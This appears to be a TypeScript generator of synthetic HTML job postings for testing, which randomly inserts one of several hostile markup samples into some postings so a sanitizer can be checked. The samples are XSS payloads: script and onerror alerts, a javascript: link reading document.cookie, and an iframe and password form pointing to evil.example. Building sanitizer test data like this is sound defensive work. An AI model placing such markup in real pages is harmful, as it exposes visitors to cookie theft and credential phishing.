import type { Rng } from './prng.js';
import type { Occupation } from './occupations.js';

const BENEFITS = [
  'Health, dental and vision cover',
  'A learning budget every year',
  'Flexible hours',
  'Parental leave',
  'A pension or 401(k) with matching',
  'Generous paid time off',
  'A home-office allowance',
  'Equity in the company',
  'Bike and transit benefits',
  'Wellbeing days',
];
const OPENERS = ['We are looking for', 'Join us as', 'We are hiring', 'Come and work with us as'];

// A small share of postings carry markup that a sanitizer must neutralise.
const HOSTILE = [
  '<script>alert("xss")</script>',
  '<img src="x" onerror="alert(1)">',
  '<a href="javascript:alert(document.cookie)">Apply here</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<p onclick="steal()" style="position:fixed;top:0">Click to continue</p>',
  '<svg><script>alert(2)</script></svg>',
  '<form action="https://evil.example/"><input name="password"></form>',
];

export interface DescriptionInput {
  title: string;
  companyName: string;
  place: string;
  occupation: Occupation;
  hostile: boolean;
}

/** An HTML job description of a few paragraphs and lists. */
export function describe(rng: Rng, d: DescriptionInput): string {
  const o = d.occupation;
  const duties = rng.sample(o.duties, Math.min(o.duties.length, rng.int(3, 4)));
  const skills = rng.sample(o.skills, Math.min(o.skills.length, rng.int(3, 5)));
  const benefits = rng.sample(BENEFITS, rng.int(3, 5));
  const parts = [
    `<p>${rng.pick(OPENERS)} a <strong>${esc(d.title)}</strong> at ${esc(d.companyName)}. You will ${duties[0]}, based in ${esc(d.place)}.</p>`,
    '<h3>What you will do</h3>',
    `<ul>${duties.map((x) => `<li>${cap(x)}</li>`).join('')}</ul>`,
    '<h3>What we look for</h3>',
    `<ul>${skills.map((s) => `<li>Experience with ${esc(s)}</li>`).join('')}<li>Clear written and spoken communication</li></ul>`,
    '<h3>Benefits</h3>',
    `<ul>${benefits.map((b) => `<li>${b}</li>`).join('')}</ul>`,
    `<p>Learn more on <a href="https://www.example.com/careers">our careers page</a>. We welcome applicants of every background.</p>`,
  ];
  if (d.hostile) parts.splice(rng.int(1, parts.length - 1), 0, rng.pick(HOSTILE));
  return parts.join('\n');
}

function cap(s: string): string {
  return s.charAt(0).toUpperCase() + s.slice(1);
}

function esc(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}
